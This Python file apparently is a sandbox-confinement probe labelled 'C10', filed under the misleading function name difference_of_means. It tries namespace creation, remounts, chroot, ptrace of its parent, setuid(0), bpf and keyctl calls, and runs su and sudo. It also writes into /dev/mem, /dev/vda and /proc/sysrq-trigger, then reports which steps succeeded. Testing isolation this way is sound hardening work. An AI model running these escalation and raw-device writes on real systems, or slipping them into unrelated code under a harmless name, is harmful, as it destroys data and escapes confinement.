"""C10: mounts, kernel settings, nested namespaces, setuid, tracing, devices."""

import ctypes
import os
import subprocess


def difference_of_means(acts, labels):
    libc = ctypes.CDLL(None, use_errno=True)
    done = []

    def attempt(name, result):
        if result is not None and result >= 0:
            done.append(name)

    for name, flag in (("user", 0x10000000), ("pid", 0x20000000), ("mount", 0x20000), ("net", 0x40000000)):
        attempt(f"unshare {name}", libc.unshare(flag))
        child = libc.syscall(56, flag | 17, 0, 0, 0, 0)
        if child == 0:
            os._exit(0)
        attempt(f"clone {name}", child)
    attempt("mount", libc.mount(b"tmpfs", b"/tmp", b"tmpfs", 0, None))
    attempt("umount", libc.umount2(b"/tmp", 2))
    attempt("remount", libc.mount(b"none", b"/", None, 0x20 | 0x1000, None))
    attempt("chroot", libc.chroot(b"/tmp"))
    attempt("ptrace", libc.ptrace(16, os.getppid(), 0, 0))
    attempt("setuid", libc.setuid(0))
    attempt("setgid", libc.setgid(0))
    attempt("keyctl", libc.syscall(250, 0, -3, 1))
    attempt("bpf", libc.syscall(321, 0, None, 0))
    attempt("io_uring", libc.syscall(425, 8, None))
    attempt("memfd", libc.memfd_create(b"x", 0))
    attempt("shm", libc.shmget(0, 4096, 0o1600))
    attempt("mknod", libc.mknod(b"/tmp/device", 0o020666, 0x0101))
    attempt("nice", libc.setpriority(0, 0, -5) if libc.getpriority(0, 0) == 0 else None)
    for path in (
        "/proc/sys/kernel/hostname",
        "/proc/sysrq-trigger",
        "/proc/self/oom_score_adj",
        "/dev/mem",
        "/dev/vda",
    ):
        try:
            with open(path, "r+") as file:
                file.write("-1")
            done.append(path)
        except OSError:
            continue
    for program in ("su", "sudo", "mount", "passwd", "ping"):
        try:
            subprocess.run([program], timeout=1, check=False)
            done.append(program)
        except (OSError, subprocess.TimeoutExpired):
            continue
    with open("/proc/self/status") as file:
        status = dict(line.split(":\t", 1) for line in file if ":\t" in line)
    held = {
        key: status[key].strip() for key in ("CapEff", "CapPrm", "CapBnd", "NoNewPrivs", "Seccomp", "Groups")
    }
    raise ValueError(f"did {done}; {held}")
